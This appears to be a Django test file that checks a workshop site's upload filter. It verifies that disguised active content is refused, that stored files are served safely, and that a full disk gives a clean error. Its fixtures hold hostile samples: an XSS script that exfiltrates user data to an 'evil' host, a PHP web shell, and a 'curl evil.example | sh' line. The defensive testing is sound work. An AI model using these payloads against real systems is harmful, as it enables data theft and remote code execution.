"""Hostile uploads: active content renamed to look harmless is refused, what
is accepted can never run in the site's origin, and a full disk gives a
clear error with nothing half-written."""

from __future__ import annotations

import io
import shutil
import subprocess
import tempfile
import zipfile
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from members.models import FACILITATORS
from members.services import role_grant
from tests.factories import MemberFactory
from tests.pages import text_of
from tests.workshops.factories import WorkshopFactory, material_post
from workshops.models import WorkshopMaterial
from workshops.services.workshop import material_add
from workshops.uploads import upload_check

pytestmark = [pytest.mark.django_db, pytest.mark.timeout(60)]

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
SCRIPT = b"<script>fetch('/me/data/download.json').then(r=>r.text()).then(t=>new Image().src='//evil/'+t)</script>"

HOSTILE = {
    "html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
    "html-bom": b"\xef\xbb\xbf<!doctype html>" + SCRIPT,
    "html-late": b"Meeting notes\n\nsee below\n" + SCRIPT,
    "xhtml": b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>" + SCRIPT + b"</html>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"/>',
    "svg-spaced": b"   \n\n<svg/onload=alert(1)>",
    "handler": b"hello <body onload=alert(1)>",
    "iframe": b"text\n<iframe src=//evil.example>",
    "javascript-link": b"[click](javascript:alert(1))",
    "php": b"<?php system($_GET['c']); ?>",
    "jsp": b"<%@ page import='java.io.*' %>",
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "utf16-html": "<html><script>alert(1)</script></html>".encode("utf-16"),
    "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
    "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
}
DISGUISES = ["slides.pdf", "photo.png", "notes.txt", "guide.md"]


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    return tmp_path


@pytest.fixture
def facilitator(db):
    member = MemberFactory()
    role_grant(user=member.user, group_name=FACILITATORS)
    return member.user


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("name", DISGUISES)
def test_active_content_refused_whatever_its_name(kind, name):
    with pytest.raises(ValidationError):
        upload_check(SimpleUploadedFile(name, HOSTILE[kind], content_type="application/pdf"))


@pytest.mark.parametrize("kind", ["html", "svg", "xhtml", "shell", "php"])
def test_refused_through_the_page_and_nothing_stored(facilitator, media, kind):
    workshop = WorkshopFactory(facilitators=[facilitator])

    response = material_post(
        facilitator, workshop, SimpleUploadedFile("slides.pdf", HOSTILE[kind], content_type="application/pdf")
    )

    assert "is not accepted" in text_of(response) or "are not accepted" in text_of(response)
    assert not WorkshopMaterial.objects.filter(workshop=workshop).exists()
    assert [path for path in media.rglob("*") if path.is_file()] == []


def _docx() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("slides.pdf", PDF, "application/pdf"),
        # A polyglot: a real PDF header with a page inside. Accepted as a PDF,
        # but served so no browser ever renders it as HTML.
        ("poly.html", PDF + b"<html>" + SCRIPT + b"</html>", "application/pdf"),
        ("photo.png", PNG, "image/png"),
        ("notes.txt", b"Plain notes.\n", "text/plain; charset=utf-8"),
        ("guide.md", b"# Guide\n", "text/markdown; charset=utf-8"),
        ("plan.docx", _docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ],
)
def test_accepted_files_cannot_run_in_the_site_origin(facilitator, media, name, content, content_type):
    workshop = WorkshopFactory(facilitators=[facilitator])
    material = material_add(workshop=workshop, actor=facilitator, title="F", upload=SimpleUploadedFile(name, content))
    client = Client()
    client.force_login(facilitator)

    response = client.get(reverse("workshops:material_file", kwargs={"pk": material.pk}))

    assert b"".join(response.streaming_content) == content
    assert response["Content-Type"] == content_type
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert not material.file.name.endswith((".html", ".htm", ".svg", ".js", ".xhtml"))


@pytest.fixture
def tiny_disk(settings):
    """MEDIA_ROOT on a 1 MB tmpfs (mounting needs root)."""
    folder = Path(tempfile.mkdtemp(prefix="plnorg-tiny-disk-"))
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)], capture_output=True)
    if mounted.returncode != 0:
        shutil.rmtree(folder, ignore_errors=True)
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode(errors='replace').strip()}")
    settings.MEDIA_ROOT = folder
    settings.STORAGES = {**settings.STORAGES, "default": {"BACKEND": "core.storage.filesystem.SafeFileSystemStorage"}}
    yield folder
    subprocess.run(["umount", "-l", str(folder)], check=False)
    shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.timeout(60)
def test_full_disk_upload_clear_error_nothing_half_written(facilitator, tiny_disk):
    """Drill: a 2 MB upload onto a 1 MB disk."""
    workshop = WorkshopFactory(facilitators=[facilitator])
    big = PDF + b"%" + b"x" * (2 * 1024 * 1024)

    response = material_post(
        facilitator,
        workshop,
        SimpleUploadedFile("recording.pdf", big, content_type="application/pdf"),
        title="Recording",
    )

    assert response.status_code == 200
    assert "There is no room left to store this file, so nothing was saved." in text_of(response)
    assert not WorkshopMaterial.objects.filter(workshop=workshop).exists()
    assert [path for path in tiny_disk.rglob("*") if path.is_file()] == []

    # The disk is not wedged: a small file still fits.
    small = material_post(facilitator, workshop, SimpleUploadedFile("slides.pdf", PDF, content_type="application/pdf"))
    assert small.status_code == 302
    stored = WorkshopMaterial.objects.get(workshop=workshop)
    assert (tiny_disk / stored.file.name).read_bytes() == PDF
